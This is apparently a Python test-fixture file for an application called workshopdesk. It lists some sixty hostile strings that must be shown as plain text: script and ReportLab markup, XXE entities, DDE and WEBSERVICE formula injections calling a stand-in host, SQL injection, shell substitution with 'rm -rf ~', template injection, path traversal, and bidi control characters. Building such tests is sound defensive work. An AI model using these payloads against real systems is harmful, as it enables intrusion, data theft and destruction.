"""Sixty texts that try something: every one is to be shown as it was typed, and nothing else may happen.

`HOSTILE` can be stored in any field of one line; `MANY_LINES` in long texts; `REFUSED` may not be stored at all.
`TOUCHES` are places that would be read, written or asked if a text were taken for more than a text.
"""

TOUCHES = ("/tmp/workshopdesk-was-here", "127.0.0.1:9", "touched.invalid")

HOSTILE: dict[str, str] = {
    # markup
    "bold": "<b>bold</b>",
    "script": "<script>alert(1)</script>",
    "image": '<img src="http://touched.invalid/a.png" onerror="x">',
    "image of a file": '<img src="file:///etc/passwd"/>',
    "link": '<a href="http://touched.invalid/">click</a>',
    "unclosed": "<para><b>open",
    "closes too much": "</b></para></font>",
    "paragraph of ReportLab": '<para fontSize="400">large</para>',
    "image of ReportLab": '<img src="/etc/passwd" width="10" height="10"/>',
    "colour of ReportLab": '<font color="red" name="Nowhere">red</font>',
    "call of ReportLab": '<onDraw name="os.system" label="touch /tmp/workshopdesk-was-here"/>',
    "anchor of ReportLab": '<a name="x"/><a href="#x">x</a>',
    "rich text of Qt": '<qt><table><tr><td>cell</td></tr></table><img src=":/icons"></qt>',
    "style": '<style>*{display:none}</style><span style="font-size:900px">big</span>',
    "svg": '<svg onload="x"><use href="http://touched.invalid/a.svg#b"/></svg>',
    "entities": "&lt;b&gt; &amp;amp; &#60; &#x3C; &nbsp;",
    "unknown entity": "&everything; & &; &#xFFFFFFFF;",
    "entity of a file": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "laughs": '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>',
    "cdata": "<![CDATA[ not markup ]]>",
    "comment": "<!-- gone? --> here",
    "processing instruction": '<?xml version="1.0"?><?php system("id") ?>',
    "markdown": "[click](http://touched.invalid) **bold** `code` # title",
    "mnemonic": "Save && quit & go && && &",
    # formulas
    "formula": "=1+1",
    "formula that starts a program": "=cmd|'/c calc'!A0",
    "formula that asks an address": '=HYPERLINK("http://touched.invalid/"&A1,"click")',
    "formula that reads": '=WEBSERVICE("http://touched.invalid/")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "formula behind a space": " =1+1",
    "formula in full width": "＝1+1",
    "quote and comma": '","=1+1","',
    "semicolon": ";=1+1;",
    "field code": '{ INCLUDETEXT "/etc/passwd" } DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe',
    # names and places
    "path up": "../../../../tmp/workshopdesk-was-here",
    "path": "/tmp/workshopdesk-was-here",
    "path of Windows": "C:\\Windows\\System32\\..\\..\\evil",
    "device": "CON",
    "share": "\\\\touched.invalid\\share\\a.png",
    "address": "file:///etc/passwd",
    "script address": "javascript:alert(1)",
    "data address": "data:text/html,<script>x</script>",
    # databases, shells, formats
    "statement": "'; DROP TABLE school; --",
    "statement in quotes": '" OR "1"="1',
    "shell": "$(touch /tmp/workshopdesk-was-here) `touch /tmp/workshopdesk-was-here` ; | && rm -rf ~",
    "gaps": "{file} {0} {0.__class__} {} %s %d %n %(x)s ${HOME}",
    "jinja": "{{ 7*7 }} {% include '/etc/passwd' %}",
    "calendar": "BEGIN:VEVENT\\nATTACH:file:///etc/passwd;X=Y:Z,\\,",
    "json": '{"__proto__": {"x": 1}, "a": [',
    "pdf": ") Tj ET /URI (http://touched.invalid) >> endobj %%EOF (",
    "backslashes": "\\ \\\\ \\n \\u0041 \\x41 \\",
    # characters
    "combining": "Z̸̢̛a̵l̶g̷o̴ " + "e" + "\u0301" * 40,
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 🇧🇪 👍🏿",
    "other scripts": "שלום مرحبا 你好 नमस्ते Ελλάδα",
    "no width": "a\u200bb\u200cc\u200dd\ufeffe",
    "odd spaces": "\u00a0\u2003\u3000x\u00a0",
    "beyond": "\U0010fffd \ue000 \ufffd \U0001f6c8",
    "long word": "Meervoudigepersoonlijkheidsstoornisverzekeringsmaatschappij" * 3,
}

MANY_LINES: dict[str, str] = {
    "many lines": "\n" * 50 + "end",
    "tabs": "\t\t=1+1\t\n\t\t",
    "carriage of csv": 'a"\n=1+1,"b\n"',
    "a page": "word " * 3000,
    "one line of a page": "w" * 15_000,
}

REFUSED: dict[str, str] = {
    "zero": "a\0b",
    "bell": "a\ab",
    "escape": "\x1b[31mred\x1b[0m",
    "return": "a\rb",
    "delete": "a\x7fb",
    "next line": "a\x85b",
    "line separator": "a\u2028b",
    "turned round": "invoice\u202efdp.exe",
    "isolated": "\u2067x\u2069",
    "mark": "\u200fx",
    "half a pair": "a\ud800b",
}
